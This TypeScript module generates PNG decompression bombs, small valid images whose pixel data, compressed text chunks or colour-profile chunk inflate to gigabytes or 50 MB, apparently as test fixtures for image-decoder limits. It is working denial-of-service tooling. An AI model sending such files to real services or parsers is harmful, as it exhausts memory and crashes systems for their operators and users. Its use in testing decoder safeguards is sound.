import { constants, crc32, deflateRawSync } from 'node:zlib'

/**
 * Builds decompression bombs: small files that decode to gigabytes. A run of zeros compresses to one block, which is
 * repeated, so building them is fast.
 */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const BLOCK_BYTES = 1 << 20
const ADLER_MODULUS = 65_521

/** A PNG chunk with its checksum. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

interface BombShape {
  readonly width: number
  readonly height: number
  readonly bitDepth?: 1 | 8 | 16
  /** 0 gray, 2 RGB, 6 RGBA */
  readonly colorType?: 0 | 2 | 6
  /** chunks between header and pixels */
  readonly extraChunks?: readonly Buffer[]
}

/** A valid, entirely black PNG of any size. */
export function buildPngBomb({
  width,
  height,
  bitDepth = 8,
  colorType = 2,
  extraChunks = [],
}: BombShape): Buffer {
  const samples = { 0: 1, 2: 3, 6: 4 }[colorType]
  const rowBytes = 1 + Math.ceil((width * bitDepth * samples) / 8)
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = bitDepth
  header[9] = colorType
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    ...extraChunks,
    pngChunk('IDAT', packZeros(rowBytes * height)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A zlib stream of so many zero bytes. */
export function packZeros(sizeBytes: number): Buffer {
  const block = packBlock(BLOCK_BYTES)
  const blocks = Array.from({ length: Math.floor(sizeBytes / BLOCK_BYTES) }, () => block)
  const trailer = Buffer.alloc(4)
  // Adler-32 of zeros: the first sum stays 1, the second counts the bytes
  trailer.writeUInt32BE((((sizeBytes % ADLER_MODULUS) << 16) | 1) >>> 0)
  const lastBlock = Buffer.from([0x03, 0x00])
  const zlibHeader = Buffer.from([0x78, 0xda])
  return Buffer.concat([zlibHeader, ...blocks, packBlock(sizeBytes % BLOCK_BYTES), lastBlock, trailer])
}

function packBlock(sizeBytes: number): Buffer {
  if (sizeBytes === 0) return Buffer.alloc(0)
  return deflateRawSync(Buffer.alloc(sizeBytes), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
}

/** A small picture with packed text that unpacks to gigabytes. */
export function buildTextBomb(): Buffer {
  const text = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), packZeros(50_000_000)]))
  return buildPngBomb({ width: 64, height: 64, extraChunks: Array.from({ length: 20 }, () => text) })
}

/** A small picture whose color profile unpacks to 50 MB. */
export function buildProfileBomb(): Buffer {
  const profile = pngChunk('iCCP', Buffer.concat([Buffer.from('profile\0\0'), packZeros(50_000_000)]))
  return buildPngBomb({ width: 64, height: 64, extraChunks: [profile] })
}
